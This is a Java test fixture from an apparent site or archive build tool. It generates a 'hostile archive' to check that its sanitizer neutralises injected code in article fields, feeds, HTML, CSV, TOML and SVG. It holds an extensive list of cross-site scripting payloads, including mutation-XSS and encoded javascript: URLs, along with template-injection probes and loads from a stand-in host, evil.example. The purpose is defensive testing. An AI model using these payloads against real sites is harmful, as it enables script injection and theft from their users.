package org.broadsheet.build;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.broadsheet.read.sanitize.SvgTest;

/**
 * An archive whose articles try to run something, in every field and by every way that we know.
 * What runs sets {@code pwned}, shows a dialog or asks {@code evil.example}.
 */
final class HostileArchive {
    /** Texts for fields: each leaves another kind of place in a page, feed or script. */
    static final List<String> FIELDS =
            List.of(
                    "</title><script>pwned=1</script>",
                    "\"><img src=x onerror=pwned=1> x",
                    "' onmouseover='pwned=1' autofocus onfocus='pwned=1' x='",
                    "</script><script>pwned=1</script>",
                    "<!--<script> x",
                    "]]><script>pwned=1</script><![CDATA[",
                    "--><script>pwned=1</script><!--",
                    "javascript:pwned=1",
                    "[[${T(java.lang.Runtime).getRuntime()}]] [(${7*7*7})] #{nav.skip} ~{layout} th:text=\"${7*7*7}\"",
                    "{{constructor.constructor('pwned=1')()}} ${7*7*7} <%= 7*7*7 %>",
                    "</textarea></style></noscript></template></select><svg onload=pwned=1> x",
                    "\\\"; pwned=1; // \\u003cscript\\u003epwned=1\\u003c/script\\u003e \u2028pwned=1",
                    "&lt;script&gt;pwned=1&lt;/script&gt; &#60;img src=x onerror=pwned=1&#62;",
                    "\u202Egnp.exe\u2066 \u200B\u200D\uFEFF x",
                    "https://evil.example/\" onclick=\"pwned=1");

    /** Texts of articles, in Markdown, in HTML and as plain text. */
    static final List<String> TEXTS =
            List.of(
                    "<script>pwned=1</script>",
                    "<scr<script>ipt>pwned=1</scr</script>ipt>",
                    "<script src=https://evil.example/x.js></script >",
                    "<img src=x onerror=pwned=1>",
                    "<img/src=x/onerror=pwned=1>",
                    "<img src=\"x\" srcset=\"https://evil.example/x 2x\" style=\"background:url(https://evil.example/y)\">",
                    "<svg onload=pwned=1><animate onbegin=pwned=1 attributeName=x dur=1s>",
                    "<svg><script href=\"data:,pwned=1\"/><use href=\"data:image/svg+xml,<svg id=x onload=pwned=1>#x\"/></svg>",
                    "<svg></p><style><a id=\"</style><img src=1 onerror=pwned=1>\">",
                    "<svg><style><!--</style><a id=\"--!><img src=1 onerror=pwned=1>\">",
                    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=pwned=1&gt;\">",
                    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned=1>",
                    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=pwned=1></style></annotation-xml></math>",
                    "<noscript><p title=\"</noscript><img src=x onerror=pwned=1>\">",
                    "<p title=\"</title><img src=x onerror=pwned=1>\" id=\"x&quot;><img src=x onerror=pwned=1>\">x</p>",
                    "<template><script>pwned=1</script></template><div><template shadowrootmode=open><img src=x onerror=pwned=1></template></div>",
                    "<select><template><img src=x onerror=pwned=1></template><option><script>pwned=1</script></select>",
                    "<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>",
                    "<iframe src=\"javascript:parent.pwned=1\"></iframe><frameset onload=pwned=1>",
                    "<object data=\"data:text/html,<script>parent.pwned=1</script>\"></object><embed src=\"javascript:pwned=1\">",
                    "<a href=\"javascript:pwned=1\">x</a> <a href=\" &#1;javascript:pwned=1\">x</a>",
                    "<a href=\"&#106;avascript&colon;pwned=1\">x</a> <a href=\"jav&#x09;ascript:pwned=1\">x</a>",
                    "<a href=\"java\nscript:pwned=1\">x</a> <a href=\"JaVaScRiPt&#0058;pwned=1\">x</a>",
                    "<a href=\"data:text/html,<script>pwned=1</script>\">x</a> <a href=\"vbscript:pwned\">x</a>",
                    "<a href=\"\\\\evil.example\">x</a> <a href=\"/\\evil.example\">x</a> <a href=\"javascript&#x3A;//%0Apwned=1\">x</a>",
                    "<a href=\"x\" onclick=\"pwned=1\" style=\"position:fixed;inset:0\" target=_blank ping=https://evil.example>x</a>",
                    "<area href=\"javascript:pwned=1\"><map name=x><area href=\"javascript:pwned=1\"></map>",
                    "[x](javascript:pwned=1) [y](<java\tscript:pwned=1>) [z](&#106;avascript:pwned=1)",
                    "[x](data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+) ![x](javascript:pwned=1) <javascript:pwned=1>",
                    "[x]: javascript:pwned=1 \"onclick=pwned=1\"\n\n[x] ![a\" onerror=\"pwned=1](x.png \"b\" onerror=\"pwned=1\")",
                    "[x](https://example.com/\"onclick=\"pwned=1) [x](https://example.com/?'><script>pwned=1</script>)",
                    "`<img src=x onerror=pwned=1>`\n\n```html\"onclick=pwned=1\n</code></pre><script>pwned=1</script>\n```",
                    "# <img src=x onerror=pwned=1> heading {#x\" onclick=\"pwned=1}\n\n| a |\n|-|\n| <script>pwned=1</script> |",
                    "text[^1]\n\n[^1]: <img src=x onerror=pwned=1>",
                    "<form action=\"https://evil.example\"><button formaction=\"javascript:pwned=1\">x</button><input autofocus onfocus=pwned=1></form>",
                    "<base href=\"https://evil.example/\"><link rel=stylesheet href=\"https://evil.example/x.css\">",
                    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\"><meta http-equiv=Content-Security-Policy content=\"\">",
                    "<style>@import 'https://evil.example/x.css';body{background:url(javascript:pwned=1);width:expression(pwned=1)}</style>",
                    "<p style=\"background:url(https://evil.example/x);behavior:url(#x);-moz-binding:url(x)\">x</p>",
                    "<video src=x onerror=pwned=1 poster=https://evil.example/y autoplay><source onerror=pwned=1></video><audio src=x onerror=pwned=1>",
                    "<details ontoggle=pwned=1 open><summary>x</summary></details><marquee onstart=pwned=1>x</marquee>",
                    "<p id=location name=cookie>x</p><a id=document href=x></a><form id=attributes><input name=attributes></form>",
                    "<x-custom onclick=pwned=1 is=y>x</x-custom><p onpointerrawupdate=pwned=1 popover>x</p>",
                    "<!--[if IE]><script>pwned=1</script><![endif]--><!--> <img src=x onerror=pwned=1> -->",
                    "<?php echo 1 ?><?xml-stylesheet href=\"javascript:pwned=1\"?><![CDATA[<script>pwned=1</script>]]>",
                    "<textarea><script>pwned=1</script></textarea><title><img src=x onerror=pwned=1></title><xmp><script>pwned=1</script></xmp>",
                    "<table background=https://evil.example/x><td background=https://evil.example/y><b onclick=pwned=1>x</table>",
                    "[[${7*7*7}]] [(${7*7*7})] <p th:text=\"${7*7*7}\" th:utext=\"${7*7*7}\" th:onclick=\"pwned=1\" data-th-text=\"${7*7*7}\">x</p><th:block th:utext=\"${7*7*7}\"/>",
                    "\u202E<script>pwned=1</script>\u202C <\u200Bscript>pwned=1</script> \uFF1Cscript\uFF1Epwned=1\uFF1C/script\uFF1E",
                    "<ruby><rt><svg><desc><noscript><img src=x onerror=pwned=1></desc></svg></rt></ruby>",
                    "<p>&lt;img src=x onerror=pwned=1&gt; &amp;lt;script&amp;gt;pwned=1&amp;lt;/script&amp;gt;</p>",
                    "<blockquote cite=\"javascript:pwned=1\"><q cite=\"data:text/html,x\">x</q></blockquote><time datetime=\"x\" onclick=pwned=1>x</time>",
                    "<plaintext><script>pwned=1</script>");

    private HostileArchive() {}

    private static String json(String text) {
        StringBuilder json = new StringBuilder("\"");
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            json.append(
                    c < ' ' || c == '"' || c == '\\' || c > '~'
                            ? String.format("\\u%04x", (int) c)
                            : String.valueOf(c));
        }
        return json.append('"').toString();
    }

    /** All fields in JSON, which is YAML too. */
    private static String fields(String id, String text) {
        return """
        {"id": "%2$s", "title": %1$s, "date": "1984-06-12", "updated": "1984-06-13",
        "summary": %1$s, "kicker": %1$s, "section": %1$s, "tags": [%1$s], "authors": [%1$s],
        "byline": %1$s, "slug": "%2$s", "contributors": [{"name": %1$s, "role": %1$s}],
        "images": [{"file": "p.png", "alt": %1$s, "caption": %1$s, "credit": %1$s, "rights": %1$s}],
        "series": {"name": %1$s, "part": 1}, "corrections": [{"date": "1984-06-14", "text": %1$s}],
        "edition": %1$s, "page": %1$s, "rights": %1$s, "related": [%1$s], "places": [%1$s], %1$s: %1$s,
        "source": {"name": %1$s, "url": "https://example.com/?\\"'><script>pwned=1</script>"},
        "aliases": ["/old-%2$s/"]\
        """
                .formatted(json(text), id);
    }

    private static String article(String id, String more) {
        return "---\ntitle: \""
                + id
                + "\"\ndate: 1984-06-13\ntags: [text]\n"
                + more
                + "---\nBefore.\n\n";
    }

    /** The archive, not built yet. */
    static ArchiveTest archive() throws IOException {
        ArchiveTest archive =
                ArchiveTest.of("=== archive.yaml\n" + settings()).pictures("content/p.png");
        StringBuilder records = new StringBuilder();
        for (int i = 0; i < FIELDS.size(); i++) {
            String text = FIELDS.get(i);
            String all = fields("field-" + i, text);
            archive.change(
                    "content/field-" + i + ".md", "---\n" + all + "}\n---\nWords. " + text + "\n");
            records.append(fields("record-" + i, text).replace('\n', ' '))
                    .append(", \"body\": ")
                    .append(json("Words. " + text))
                    .append(", \"format\": \"html\"}\n");
            archive.change("content/odd-" + i + ".md", odd(i, json(text)));
            archive.change(
                    "content/page-" + i + ".html",
                    page(
                            text.replace("&", "&amp;").replace("<", "&lt;").replace("\"", "&quot;"),
                            text));
        }
        archive.change("content/records.jsonl", records.toString());
        String mixed = FIELDS.get(1).replace("\"", "\"\"");
        archive.change(
                "content/table.csv",
                "id,title,date,tags,authors,summary,body\ncsv-1,\""
                        + mixed
                        + "\",1984-06-12,\""
                        + mixed
                        + "\",\""
                        + mixed
                        + "\",\""
                        + mixed
                        + "\",\""
                        + mixed
                        + "\"\n");
        archive.change(
                "content/toml.md",
                "+++\ntitle = '''"
                        + FIELDS.get(0)
                        + "'''\ndate = 1984-06-12\nsummary = '''"
                        + FIELDS.get(5)
                        + "'''\ntags = ['''"
                        + FIELDS.get(1)
                        + "''']\n+++\nWords.\n");
        texts(archive);
        return archive;
    }

    private static String settings() {
        return """
        title: "Test </script><script>pwned=1</script>"
        description: "]]> <img src=x onerror=pwned=1>"
        rights: "<svg onload=pwned=1>"
        feeds: {text: full, lists: [tags, authors, series]}
        lists: {places: {title: "<b onclick=pwned=1>Places"}}
        """;
    }

    /** What takes the article away, or is a path, a language or a type. */
    private static String odd(int i, String text) {
        return switch (i % 5) {
            case 0 ->
                    "---\ntitle: "
                            + text
                            + "\ndate: 1984-06-14\nwithdrawn: {date: 1985-01-01, reason: "
                            + text
                            + "}\n---\nx\n";
            case 1 -> "---\ntitle: " + text + "\ndate: " + text + "\n---\nx\n";
            case 2 ->
                    "---\ntitle: A\ndate: 1984-06-14\nlang: "
                            + text
                            + "\ntype: "
                            + text
                            + "\nslug: "
                            + text
                            + "\n---\nx\n";
            case 3 ->
                    "---\ntitle: A\ndate: 1984-06-14\nid: "
                            + text
                            + "\naliases: ["
                            + text
                            + ", \"/a'><script>pwned=1\"]\n---\nx\n";
            default ->
                    "---\ntitle: A\ndate: 1984-06-14\nurl: \"/u"
                            + i
                            + "/'onclick='pwned=1'<script>\"\nsource: "
                            + text
                            + "\ntranslationOf: "
                            + text
                            + "\n---\nx\n";
        };
    }

    private static String page(String escaped, String raw) {
        return """
        <html><head><title>%1$s</title><meta name="author" content="%1$s">
        <meta name="description" content="%1$s"><meta name="keywords" content="%1$s">
        <meta property="article:published_time" content="1984-06-12">
        <link rel="canonical" href="javascript:pwned=1"><meta property="og:image" content="javascript:pwned=1">
        <script type="application/ld+json">{"@type": "NewsArticle", "headline": %2$s, "author": {"name": %2$s, "url": "javascript:pwned=1"}}</script>
        </head><body><article><h1>%1$s</h1><p>Words of the page, of which there are some more here.</p>
        <figure><img src="p.png" alt="%1$s"><figcaption>%1$s</figcaption></figure><p>And the end.</p></article>
        """
                .formatted(escaped, json(raw).replace("<", "\\u003c"));
    }

    private static void texts(ArchiveTest archive) throws IOException {
        StringBuilder plain = new StringBuilder("A title\n\n");
        for (int i = 0; i < TEXTS.size(); i++) {
            String text = TEXTS.get(i);
            archive.change(
                    "content/text-" + i + ".md", article("text-" + i, "") + text + "\n\nEnd.\n");
            archive.change(
                    "content/html-" + i + ".html",
                    "<title>html-"
                            + i
                            + "</title><meta name=date content=1984-06-13><article><p>Before.</p>"
                            + text
                            + "<p>End.</p></article>");
            plain.append(text).append("\n\n");
        }
        archive.change("content/plain.txt", plain.toString());
        StringBuilder drawings = new StringBuilder(article("drawings", ""));
        List<String> svgs = SvgTest.hostile();
        for (int i = 0; i < svgs.size(); i++) {
            archive.change("content/d" + i + ".svg", svgs.get(i));
            archive.change("content/e" + i, svgs.get(i));
            archive.change("content/f" + i + ".kml", svgs.get(i));
            drawings.append("![](d" + i + ".svg) [a](e" + i + ") [b](f" + i + ".kml)\n");
        }
        archive.change("content/utf16.svg", svgs.getFirst().getBytes(StandardCharsets.UTF_16));
        archive.change(
                "content/safe.svg",
                "<svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0\"/></svg>");
        archive.change("content/run", "<script>pwned=1</script>");
        archive.change("content/drawings.md", drawings + "![](utf16.svg) ![](safe.svg) [c](run)\n");
    }
}
